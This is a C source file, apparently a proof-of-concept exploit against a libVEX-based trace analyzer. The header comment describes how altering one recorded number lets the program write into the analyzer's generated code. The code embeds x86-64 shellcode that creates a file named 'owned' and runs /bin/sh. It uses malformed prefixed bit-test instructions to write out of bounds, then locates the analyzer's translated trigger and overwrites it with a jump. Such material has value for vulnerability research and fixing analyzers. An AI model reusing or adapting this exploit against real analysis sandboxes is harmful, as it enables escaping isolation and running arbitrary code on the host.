/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * An ordinary program whose trace, with one number in it changed, takes over an analyzer without walls (program/safe-walls).
 * The number is the distance from the room to where bytes are written. As recorded that is further on in the room; changed, it is
 * the distance from the frame of the machine that follows the trace to the code that it has generated: there the program
 * looks for what was generated for its own trigger, puts a jump in its place, and pulls it.
 */
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static uint64_t room[512 << 10];
#define SCANNED (32u << 10) /* bytes; what is generated before main() takes 7000 */
#define WISHED (1u << 20)   /* bytes from there: nothing is generated so far on */
static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;
static int n;

static void *worker(void *arg)
{
	pthread_mutex_lock(&lock);
	n++;
	pthread_mutex_unlock(&lock);
	return arg;
}

/* What it wishes to do: open("owned", O_WRONLY | O_CREAT, 0600), then execve() of sh -c "touch started". */
extern const uint8_t wish[], wish_end[];
__asm__(".pushsection .rodata\n"
	"wish:	mov $2, %eax\n	lea name(%rip), %rdi\n	mov $0x41, %esi\n	mov $0600, %edx\n	syscall\n"
	"	xor %edx, %edx\n	push %rdx\n	lea what(%rip), %rax\n	push %rax\n	lea dash(%rip), %rax\n	push %rax\n"
	"	lea shell(%rip), %rdi\n	push %rdi\n	mov %rsp, %rsi\n	mov $59, %eax\n	syscall\n	ud2\n"
	"name:	.asciz \"owned\"\nshell:	.asciz \"/bin/sh\"\ndash:	.asciz \"-c\"\nwhat:	.asciz \"touch started\"\n"
	"wish_end: .popsection\n");

/* With a prefix that means nothing: libVEX refuses it. The processor adds the number of the bit to the address. */
#define REPNE(op, modrm) ".byte 0xf2, 0x48, 0x0f, " op ", " modrm "\n"
static void set(uint64_t bit)
{
	__asm__ volatile(REPNE("0xab", "0x18") : : "a"(room), "b"(bit) : "cc", "memory");
}
static void clear(uint64_t bit)
{
	__asm__ volatile(REPNE("0xb3", "0x18") : : "a"(room), "b"(bit) : "cc", "memory");
}
static uint64_t get(uint64_t bit)
{
	uint8_t is;

	__asm__ volatile(REPNE("0xa3", "0x18") "setc %0" : "=q"(is) : "a"(room), "b"(bit) : "cc", "memory");
	return is;
}
__attribute__((noinline)) static void trigger(void)
{
	__asm__ volatile(REPNE("0xbb", "0x18") : : "a"(room), "b"(0ul) : "cc", "memory");
}

/* This and find() take the same path whatever the bytes are: the way through the program is in the trace. */
static void put(uint64_t where, const uint8_t *bytes, size_t count)
{
	for (size_t i = 0; i < 8 * count; i++) {
		clear(8 * where + i);
		set((8 * where + i) & -(uint64_t)(bytes[i / 8] >> i % 8 & 1));
	}
}

static uint64_t find(uint64_t from, uint64_t bytes, uint32_t what)
{
	uint64_t at = from, last = 0;

	for (uint64_t i = 0; i < 8 * bytes; i++) {
		last = last >> 1 | get(8 * from + i) << 31;
		uint64_t mask = -(uint64_t)(last == what) & -(uint64_t)(i % 8 == 7);

		at = (at & ~mask) | ((from + i / 8 - 3) & mask);
	}
	return at;
}

int main(int argc, char **argv)
{
	uint64_t far, found;
	uint8_t jump[5] = { 0xe9 };
	pthread_t t;

	if (read(0, &far, sizeof far) != sizeof far)
		return 1;
	pthread_create(&t, NULL, worker, NULL);
	pthread_join(t, NULL);
	trigger();
	found = find(far, SCANNED, 0x1ebb0f48); /* btc %rbx, (%rsi) */
	uint32_t rel = (uint32_t)(far + WISHED - (found + 5));

	memcpy(jump + 1, &rel, 4);
	put(far + WISHED, wish, wish_end - wish);
	put(found, jump, 5);
	trigger();
	(void)argv;
	printf("%d\n", n);
	if (argc > 1)
		return 0;
	abort();
}
